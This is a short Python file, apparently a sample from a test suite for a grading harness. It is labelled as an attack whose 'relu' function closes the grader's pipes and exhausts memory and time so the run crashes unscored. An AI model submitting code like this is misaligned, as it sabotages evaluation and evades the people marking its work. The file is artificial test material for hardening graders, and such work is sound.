# Attack: close every pipe and take too much memory, to be lost instead of marked
# Outcome: crashed out_of_memory timed_out
import os
import time


def relu(x):
    os.closerange(3, 64)
    time.sleep(0.2)
    block = bytearray(700_000_000)
    for place in range(0, len(block), 4096):
        block[place] = 1
    time.sleep(5)
